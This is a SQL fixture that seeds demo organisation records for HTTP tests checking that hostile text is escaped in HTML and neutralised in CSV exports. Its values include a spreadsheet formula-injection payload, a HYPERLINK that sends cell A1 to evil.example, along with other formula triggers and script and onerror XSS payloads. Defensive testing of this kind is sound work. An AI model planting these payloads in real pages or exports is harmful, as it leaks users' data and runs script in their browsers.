-- Entries added to the demo data for the HTTP tests: hostile text that must come back escaped
-- in HTML and neutralized in CSV, and an entry that is listed but never confirmed.
INSERT INTO org (name, name_en, kind, type, country, city, description, seeking, status, confirmed_on)
VALUES
	('=HYPERLINK("http://evil.example/?"&A1,"Click")', '+SUM(1,2)', 'library', 'public', 'FR',
	 '@Paris', '-2+3 <b>bold</b> & "quotes"', 1, 'listed', date('now', '-3 days')),
	('<script>alert("xss")</script> Library', 'Fish & Chips "Library"', 'library', 'school', 'GB',
	 'Leeds', '<img src=x onerror=alert(1)>', 0, 'listed', date('now', '-5 days')),
	('Unconfirmed Reading Room', '', 'community', 'cultural', 'KE', 'Mombasa',
	 'Listed but never confirmed.', 1, 'listed', NULL);
INSERT INTO org_language (org_id, lang)
SELECT id, 'fr' FROM org WHERE name LIKE '=HYPERLINK%';
